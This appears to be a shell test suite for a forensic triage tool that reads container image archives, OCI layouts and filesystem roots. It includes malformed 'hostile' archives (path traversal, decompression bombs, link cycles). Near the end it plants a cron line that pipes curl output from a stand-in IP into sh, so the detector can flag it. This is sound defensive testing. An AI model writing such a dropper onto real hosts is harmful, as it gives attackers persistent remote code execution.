#!/bin/sh
# t-archives - archives and layouts as evidence: what real engines save, what
# an independent program unpacks of it, every packing; and what none would write
. "$(dirname "$0")/lib.sh"
. "$TESTS/stores/lib.sh"
FX=$TESTS/fixtures

unpack() { zstd -q -d --long=27 -c "$FX/store-archive-$1.tar.zst" | tar -xf - -C "$2"; }
mkdir -p "$T/c" "$T/oci" "$T/h"
unpack clean "$T/c"
unpack oci "$T/oci"
unpack hostile "$T/h"

images() { "$BIN/collect-images" -r "$1" 2>"$T/msg"; }
# those that the merged trees show
files() { "$BIN/collect-files" --all -r "$1" 2>"$T/msg" | jq -c 'select(.hidden|not)'; }
notes() { jq -r 'select(.k=="note" and .class!="absent")|"\(.class) \(.path): \(.detail)"' "$1" | sort -u; }
scope_of() { images "$1" | jq -r --arg n "$2" 'select(.k=="image" and ((.names//"[]")|fromjson|index($n)))|.scope'; }
# The files of a scope as listing.py has them.
cat >"$T/listing.py" <<'P'
import base64, json, os, sys
kinds = {'symlink': 'link', 'char': 'chardev', 'block': 'blockdev'}
for line in sys.stdin:
    d = json.loads(line)
    if d['k'] != 'file' or d['scope'] != sys.argv[1]:
        continue
    raw = lambda k: base64.b64decode(d[k + '_b64']) if k + '_b64' in d else d.get(k, '').encode()
    kind = kinds.get(d['type'], d['type'])
    rest = os.fsdecode(raw('target')) if kind == 'link' else d.get('sha256', '')
    print(('%s %o %d:%d %s %s' % (kind, d['mode'], d['uid'], d['gid'],
           repr(os.fsdecode(raw('path')))[1:-1], rest)).encode('utf-8', 'backslashreplace').decode())
P
listing() { files "$1" | python3 "$T/listing.py" "$2" | LC_ALL=C sort; }
# Records without what depends on where the bytes lie.
plain() {
	jq -cS 'select(.k=="file")|del(.device,.inode,.links,.allocated,.changed_time,.accessed_time,
		.birth_time,.host_path,.host_path_b64,.xattrs,.capabilities)
		|if .type=="directory" then del(.size) else . end' | sort
}

# ---- what docker saved ----------------------------------------------------------

status "docker save: images" 0 "$BIN/collect-images" -r "$T/c/save.tar"
cp "$T/out" "$T/save.rec"
like "what it was taken for" "$(cat "$T/err")" "is taken for: archive"
is "no note" "$(notes "$T/save.rec")" ""
docker=$FX/store-archive-clean/engine/image-inspect.json
engine() { # what docker itself said, one line an image
	jq -c --argjson ids "$(jq -s '[.[]|select(.k=="image")|.image_id]' "$1")" '[.[]|select(.Id as $i|$ids|index($i))|
		[.Id, (.RepoTags|sort), .RootFS.Layers, .Architecture, .Os, .Author, .Config.Cmd, .Config.Entrypoint,
		.Config.Env, .Config.User, .Config.WorkingDir, ((.Config.Labels//{})|to_entries|map("\(.key)=\(.value)")|sort)]]|sort[]' "$2"
}
ours() {
	jq -c -s 'def list(x): (x//"null")|fromjson;
		[.[]|select(.k=="image_layer")] as $l|[.[]|select(.k=="image")|. as $i|
		[.image_id, (list(.names)//[]), ([$l[]|select(.image_id==$i.image_id)]|sort_by(.position)|map(.diff_id)),
		.architecture, .os, (.author//""), list(.cmd), list(.entrypoint), list(.env), (.user//""), (.workdir//""),
		(list(.labels)//[])]]|sort[]' "$1"
}
is "what docker image inspect says" "$(ours "$T/save.rec")" "$(engine "$T/save.rec" "$docker")"
is "how many images" "$(jq -r 'select(.k=="image")|.image_id' "$T/save.rec" | wc -l)" \
	"$(tar -xOf "$T/c/save.tar" manifest.json | jq length)"
is "docker history" "$(jq -c 'select(.k=="image_history")|[.image_id,.created_by]' "$T/save.rec" | sort)" \
	"$(jq -c --argjson ids "$(jq -s '[.[]|select(.k=="image")|.image_id]' "$T/save.rec")" \
	'select(.Image as $i|$ids|index($i))|[.Image,.CreatedBy]' "$FX/store-archive-clean/engine/history.json" | sort)"
like "where a layer lies" "$(jq -r 'select(.k=="image_layer")|.host_path' "$T/save.rec" | head -n 1)" \
	"^$T/c/save.tar![0-9a-f]{64}/layer.tar$"
shop=$(scope_of "$T/c/save.tar" shop:7)
is "the layered view is what umoci unpacks" "$(listing "$T/c/save.tar" "$shop")" "$(cat "$FX/store-archive-clean/engine/shop.txt")"
is "no note about files" "$(files "$T/c/save.tar" >"$T/rec"; notes "$T/rec")" ""
like "a member's name" "$(jq -r 'select(.k=="file" and .path=="/bin/busybox")|.host_path' "$T/rec" | head -n 1)" \
	"^$T/c/save.tar![0-9a-f]{64}/layer.tar!bin/busybox$"

# ---- the same otherwise packed ------------------------------------------------------

files "$T/c/save.tar" | plain >"$T/want"
like "what is compared" "$(wc -l <"$T/want")" '^[1-9][0-9]{2}$'
for z in gzip zstd xz bzip2 lz4; do
	$z -q -c "$T/c/save.tar" >"$T/save.packed"
	is "$z" "$(files "$T/save.packed" | plain | cmp - "$T/want" 2>&1)" ""
done
rm "$T/save.packed"
is "an OCI layout" "$(listing "$T/oci" "$(scope_of "$T/oci" shop:7)")" "$(cat "$FX/store-archive-clean/engine/shop.txt")"
like "what it was taken for" "$(files "$T/oci" >"$T/rec"; cat "$T/msg")" "is taken for: oci-layout"
plain <"$T/rec" >"$T/want"
like "where a layer of a layout lies" "$(images "$T/oci" | jq -r 'select(.k=="image_layer")|.host_path' | head -n 1)" \
	'^/blobs/sha256/[0-9a-f]{64}$'
tar -C "$T/oci" -cf "$T/oci.tar" .
is "an OCI layout in a tar" "$(files "$T/oci.tar" | plain | cmp - "$T/want" 2>&1)" ""
xz -c "$T/oci.tar" >"$T/oci.txz"
is "packed once more" "$(files "$T/oci.txz" | plain | cmp - "$T/want" 2>&1)" ""
cat >"$T/repack.py" <<'P'
import glob, gzip, hashlib, json, os, subprocess, sys
top, how = sys.argv[1], sys.argv[2].split()
path = lambda d: top + '/blobs/sha256/' + d[7:]
def put(b):
    d = 'sha256:' + hashlib.sha256(b).hexdigest()
    open(path(d), 'wb').write(b)
    return d
index = json.load(open(top + '/index.json'))
for m in index['manifests']:
    doc = json.load(open(path(m['digest'])))
    for l in doc['layers']:
        b = gzip.decompress(open(path(l['digest']), 'rb').read())
        l['digest'] = put(subprocess.run(how, input=b, stdout=subprocess.PIPE).stdout)
    m['digest'] = put(json.dumps(doc).encode())
json.dump(index, open(top + '/index.json', 'w'))
P
for z in zstd xz cat; do
	rm -rf "$T/again" && cp -r "$T/oci" "$T/again"
	python3 "$T/repack.py" "$T/again" "$z"
	is "layers packed with $z" "$(files "$T/again" | plain | cmp - "$T/want" 2>&1)" ""
done

# ---- roots ---------------------------------------------------------------------------

status "docker export" 0 "$BIN/collect-files" --all -r "$T/c/export.tar"
is "what tar unpacks of it" "$(python3 "$T/listing.py" host <"$T/out" | LC_ALL=C sort)" "$(cat "$FX/store-archive-clean/engine/export.txt")"
is "and its accounts" "$("$BIN/collect-persistence" -r "$T/c/export.tar" 2>/dev/null | jq -r 'select(.k=="account")|.scope+" "+.name')" "host root
host www-data"
R=$T/root
mkdir -p "$R/etc/cron.d" "$R/usr/bin"
echo archived >"$R/etc/hostname"
echo 'root:x:0:0::/root:/bin/sh' >"$R/etc/passwd"
echo '* * * * * root /usr/bin/x' >"$R/etc/cron.d/job"
printf '#!/bin/sh\necho x\n' >"$R/usr/bin/x"
ln "$R/usr/bin/x" "$R/usr/bin/y"
ln -s x "$R/usr/bin/z"
head -c 300000 /dev/urandom >"$R/usr/bin/data"
truncate -s 3M "$R/usr/bin/sparse"; echo end >>"$R/usr/bin/sparse"
files "$R" | plain >"$T/want"
for how in "--format=gnu" "--format=posix" "--format=ustar" "--format=gnu --sparse" "--format=posix --sparse"; do
	tar $how --numeric-owner -C "$R" -cf "$T/root.tar" .
	# times of ustar have no fractions
	is "a root, tar $how" "$(files "$T/root.tar" | plain | sed 's/"modified_time":[0-9]*/"modified_time":0/' | sort |
		diff - "$(sed 's/"modified_time":[0-9]*/"modified_time":0/' "$T/want" | sort >"$T/want0"; echo "$T/want0")" | head -n 4)" ""
	gzip -c "$T/root.tar" >"$T/root.tgz"
	is "packed, tar $how" "$(files "$T/root.tgz" | plain | sed 's/"modified_time":[0-9]*/"modified_time":0/' | sort | diff - "$T/want0" | head -n 4)" ""
done
is "its name" "$(files "$T/root.tgz" | jq -r 'select(.k=="run")|.host+" "+.taken_for')" "archived archive"
is "what runs" "$("$BIN/collect-persistence" -r "$T/root.tgz" 2>/dev/null | jq -r 'select(.k=="persist" and .artifact=="cron-d")|.path+" "+.command')" \
	"/etc/cron.d/job /usr/bin/x"
(cd "$R" && python3 -c '
import os, zipfile
z = zipfile.ZipFile("'"$T/root.zip"'", "w", zipfile.ZIP_DEFLATED)
for d, _, names in os.walk("."):
    for n in names:
        if not os.path.islink(d + "/" + n):
            z.write(d + "/" + n)')
is "a zip" "$(files "$T/root.zip" | jq -r 'select(.k=="file" and .type=="file")|.path+" "+.sha256' | sort)" \
	"$(cd "$R" && find . -type f -exec sha256sum {} + | sed 's/^\([0-9a-f]*\)  \./\1 /' | awk '{print $2, $1}' | sort)"
printf '070701%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08Xetc/x\0hi\n\0' 1 33188 0 0 1 0 3 0 0 0 0 6 0 >"$T/root.cpio"
printf '070701%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08XTRAILER!!!\0\0\0\0' 0 0 0 0 1 0 0 0 0 0 0 11 0 >>"$T/root.cpio"
is "a cpio" "$(files "$T/root.cpio" | jq -r 'select(.k=="file" and .type=="file")|.path+" "+.sha256')" "/etc/x $(echo hi | sha256sum | cut -c 1-64)"

# ---- a store in an archive ------------------------------------------------------------

if have_stores; then
	unpack_store docker-clean "$T/store"
	"$BIN/collect-containers" -r "$T/store" 2>/dev/null | jq -cS 'select(.k=="container" or .k=="change")|del(.changed_time,.inode,.device,.host_path_b64)
		|if .type=="directory" then del(.size) else . end' | sort >"$T/want"
	"$BIN/collect-containers" -r "$FX/store-docker-clean.tar.zst" 2>/dev/null >"$T/rec"
	jq -cS 'select(.k=="container" or .k=="change")|del(.changed_time,.inode,.device,.host_path_b64)
		|if .type=="directory" then del(.size) else . end' "$T/rec" | sed "s,$FX/store-docker-clean.tar.zst!,/,g" | sort >"$T/got"
	is "a data-root in an archive: containers and changes" "$(diff "$T/want" "$T/got" | head -n 4)" ""
	like "there are some" "$(wc -l <"$T/want")" '^[0-9]{2,}$'
	files "$T/store" | plain >"$T/want"
	files "$FX/store-docker-clean.tar.zst" | plain >"$T/got"
	is "and its files" "$(diff "$T/want" "$T/got" | head -n 4)" ""
else
	skip "a data-root in an archive" "its layers cannot be unpacked here"
fi

# ---- layouts by hand ----------------------------------------------------------------------

make() { python3 "$TESTS/archives.py" "$1" "$T/x.tar"; }
make layout
is "indexes in indexes, attestations, artifacts, unknown types" "$(images "$T/x.tar" >"$T/rec"; jq -r 'select(.k=="image")|.names//"-"' "$T/rec" | sort)" '-
["old:1"]
["registry.example.org/app:2"]'
# that of schema 1 has a name, and neither layers nor a history
is "what of it is noted" "$(jq -r 'select(.k=="note")|"\(.class) \(.lost) \(.detail)"' "$T/rec" | sed 's/sha256:[0-9a-f]*/SHA/' | sort)" \
	"absent false an index names this manifest, which is not in the archive
corrupt true a layer of the image SHA is missing
corrupt true its history cannot be read whole, or is not as long as its list of layers"
is "its files" "$(files "$T/x.tar" | jq -r 'select(.k=="file" and .type=="file")|.path' | sort)" "/etc/nameless
/etc/two"
mkdir "$T/dir"
python3 "$TESTS/archives.py" layout-dir "$T/dir"
is "the same as a directory" "$(files "$T/dir" | plain | cmp - "$(files "$T/x.tar" | plain >"$T/want"; echo "$T/want")" 2>&1)" ""
make v1
is "v1: names, layers, history" "$(images "$T/x.tar" >"$T/rec"; jq -c 'select(.k=="image")|[.image_id[7:9],.names,.layers,.verified,.cmd,.env]' "$T/rec")
$(jq -c 'select(.k=="image_history")|[.image_id[7:9],.created_by]' "$T/rec")" \
	'["bb","[\"old/app:1\",\"old/app:latest\"]",2,false,"[\"serve\"]","[\"V=b\"]"]
["cc",null,1,false,"[\"serve\"]","[\"V=c\"]"]
["bb","/bin/sh -c made a"]
["bb","/bin/sh -c made b"]
["cc","/bin/sh -c made c"]'
is "v1: no note" "$(notes "$T/rec")" ""
is "v1: files" "$(files "$T/x.tar" | jq -r 'select(.k=="file" and .type=="file")|.path' | sort)" "/etc/alone
/etc/low
/etc/top"
make v1-nameless
is "v1 without names" "$(images "$T/x.tar" | jq -c 'select(.k=="image")|[.image_id[7:9],.names,.layers]')" '["bb",null,2]
["cc",null,1]'

# ---- what no engine would write ---------------------------------------------------------------

# hostile NAME EXIT-OF-IMAGES NOTES(ERE) FILES
hostile() {
	make "$1"
	timeout 600 "$BIN/collect-images" -r "$T/x.tar" >"$T/rec" 2>"$T/msg"
	is "$1: exit" $? "$2"
	like "$1: notes" "$(notes "$T/rec")" "$3"
	timeout 600 "$BIN/collect-files" --all -r "$T/x.tar" >"$T/rec" 2>"$T/msg"
	is "$1: files" "$(jq -r 'select(.k=="file" and .type!="directory" and (.hidden|not))|.path' "$T/rec" | sort | tr '\n' ' ')" "$4"
}
all='/etc/b /etc/passwd /lib /o/high /usr/lib/l '
hostile good 0 '^$' "$all"
hostile paths 1 'corrupt .*!\.\./\.\./\.\./\.\./\.\./etc/shadow: a layer .* is missing' ''
unlike "nothing of this machine" "$(cat "$T/rec")" '"path":"/etc/'
hostile config-path 1 "corrupt .*its name has '\.\.'" ''
hostile links 1 'corrupt .*!l1: a layer of .* is missing' ''
hostile missing 1 'corrupt .* is missing' '/d/x /etc/a /etc/passwd /lib /o/low /usr/lib/l '
hostile config-digest 1 'corrupt .*d\.json: was changed: its digest is sha256:' "$all"
hostile diff-id 1 'corrupt .*is not the layer that the image' "$all"
hostile layer-count 1 'corrupt .*the configuration has 1 layers, the manifest 2' "$all"
hostile blob 1 'corrupt .*!blobs/sha256/.*: was changed: its digest is' '/d/x /etc/a /etc/passwd /lib /o/low /usr/lib/l '
hostile truncated 1 'corrupt .*it is damaged, or ends, after 3 members' ''
hostile truncated-gzip 1 'corrupt .*behind its members it is damaged' "$all"
hostile truncated-layer 1 '^(corrupt|unsupported) ' ''
hostile bomb 1 'limit .*ARCHIVE_RATIO_MAX' '/etc/zero '
hostile names 1 "corrupt .*!\.\./up: member '\.\./up' is left out" '/abs /dir /dot/f /etc/evil /file /loop /out /twice '
hostile hard 1 'corrupt .*it is a hard link to .c., which is no file' '/early /late '
hostile xattr 1 "corrupt .*has an attribute 'trusted.overlay.opaque': it is not followed" \
	'/d/x /etc/a /etc/cap /etc/passwd /lib /o/low /usr/lib/l '
hostile cycle 1 'corrupt .*the parents go in a circle' '/d/x /etc/a /etc/passwd /lib /o/low /usr/lib/l '
hostile index-cycle 1 'corrupt ' ''
hostile no-json 1 'corrupt .*manifest.json: is no JSON' ''
hostile 7z 1 'unsupported .*is a 7z archive' ''
hostile both 1 'unsupported .*--as host reads the root' ''
is "both: as a host" "$("$BIN/collect-files" --as host --all -r "$T/x.tar" 2>/dev/null | jq -r 'select(.k=="file" and .type=="file")|.path' | tr '\n' ' ')" \
	'/etc/passwd /manifest.json '
hostile sparse-claim 1 'corrupt .*only 1024 of 1152921504606846976 bytes' '/etc/huge '
make deep
status "deep" 1 timeout 600 "$BIN/collect-images" -r "$T/x.tar"
like "deep: note" "$(notes "$T/out")" 'limit .*ROOT_DEPTH_MAX'
# fewer with sanitizers, which need a minute for that many
members=100000; [ -n "$SAN" ] && members=10000
python3 "$TESTS/archives.py" many "$T/x.tar" "$members"
is "$members members" "$(timeout 600 "$BIN/collect-files" --all -r "$T/x.tar" 2>/dev/null | grep -c '"type":"file"')" "$members"
make bytes
is "names are bytes" "$(files "$T/x.tar" | jq -r 'select(.k=="file" and .type!="directory")|.path_b64//.path|@json' | sort)" \
	"$(printf '%s\n' '"/line\nfeed"' '"/l"' '"/naïve"' "\"$(printf '/caf\351' | base64)\"" | sort)"
head -c 3000 /dev/urandom >"$T/x.tar"
status "noise" 1 "$BIN/collect-files" -r "$T/x.tar"
: >"$T/x.tar"
status "nothing" 1 "$BIN/collect-files" -r "$T/x.tar"

# ---- the verdict ----------------------------------------------------------------------------------

status "a hostile archive" 10 "$BIN/salvor" triage -r "$T/h/save.tar" -c "$T/h.db"
like "why" "$(cat "$T/out")" "a known hostile image in an archive"
status "a clean archive gives no keep" 10 "$BIN/salvor" triage -r "$T/c/save.tar" -c "$T/c.db"
like "why not" "$(cat "$T/out")" "host-not-seen"
unlike "and nothing else" "$(cat "$T/out")" "in-archive|Why (investigate|wipe)"

# ---- nothing is written, nothing else is opened -----------------------------------------------------

if command -v strace >/dev/null && [ -z "$SAN" ]; then
	strace -f -qq -e trace=openat,open,openat2,creat -o "$T/strace" "$BIN/collect-files" --all -r "$T/c/save.tar" >/dev/null 2>&1
	is "no file is opened for writing" "$(grep -E 'O_WRONLY|O_RDWR|O_CREAT' "$T/strace" | grep -vc '"/dev/null"')" 0
	is "only the archive is opened" "$(sed -n 's/.*open[at2]*([^"]*"\([^"]*\)".*/\1/p' "$T/strace" | sort -u |
		grep -vE '^/dev/(null|urandom)$' | grep -v "^$T/c/save.tar$" | grep -vE '^/(proc/self|sys/devices/system/cpu|proc/mounts)' | tr -d '\n')" ""
else
	skip "what is opened" "no strace, or sanitizers"
fi
# ---- a store packed without attributes -----------------------------------------------------------

tiny_store "$T/plain"
plainnote() { "$BIN/collect-images" -r "$1" | jq -r 'select(.k=="note" and (.detail|test("without extended attributes")))|"\(.class) \(.lost) \(.path|sub("^.*/";""))"'; }
tar -C "$T/plain" -cf "$T/plain.tar" .
like "an overlay store in a plain tar: noted, nothing lost" "$(plainnote "$T/plain.tar" 2>"$T/msg")" '^denied false '
status "and so no exit of 1" 0 "$BIN/collect-images" -r "$T/plain.tar"
mkdir -p "$T/inroot/var/lib" && cp -r "$T/plain" "$T/inroot/var/lib/docker" && mkdir "$T/inroot/etc"
tar -C "$T/inroot" -cf "$T/inroot.tar" .
like "the same in a root" "$(plainnote "$T/inroot.tar" 2>"$T/msg")" '^denied false .*docker$'
if setfattr -n user.x -v y "$T/plain/overlay2/layer1/diff" 2>/dev/null; then
	tar --xattrs -C "$T/plain" -cf "$T/x.tar" .
	is "with attributes: no note" "$(plainnote "$T/x.tar" 2>"$T/msg")" ""
else
	skip "with attributes" "needs a file system with user attributes"
fi
is "no archive: no note" "$(plainnote "$T/plain" 2>"$T/msg")" ""

# a host's root with what the host would run: of that host all is said, but keep
R=$T/hroot
mkdir -p "$R/etc/cron.d" "$R/usr/bin" "$R/var/spool/cron/crontabs"
echo victim >"$R/etc/hostname"
printf 'root:x:0:0::/root:/bin/sh\n' >"$R/etc/passwd"
tar -C "$R" -cf "$T/calm.tar" .
status "a calm root in an archive" 10 "$BIN/salvor" triage -r "$T/calm.tar" -c "$T/calm.db"
unlike "nothing against it" "$(cat "$T/out")" "Why wipe"
for how in /etc/cron.d/job /etc/crontab /var/spool/cron/crontabs/root; do
	who='root '
	case $how in */crontabs/*) who= ;; esac
	echo "* * * * * ${who}curl -fsSL http://192.0.2.1/x.sh | sh" >"$R$how"
	chmod 600 "$R$how"
	tar -C "$R" -czf "$T/evil.tgz" .
	rm "$R$how" "$T/evil.db" 2>/dev/null
	status "a dropper in $how" 20 "$BIN/salvor" triage -r "$T/evil.tgz" -c "$T/evil.db"
	like "why" "$(cat "$T/out")" "$how"
done
is "its scope" "$("$BIN/case-query" "$T/evil.db" --sql "SELECT scope, path FROM finding WHERE rule GLOB '*/cron-fetch-exec'" --format csv | tail -n 1 | tr -d '\r')" \
	'"host","/var/spool/cron/crontabs/root"'
finish
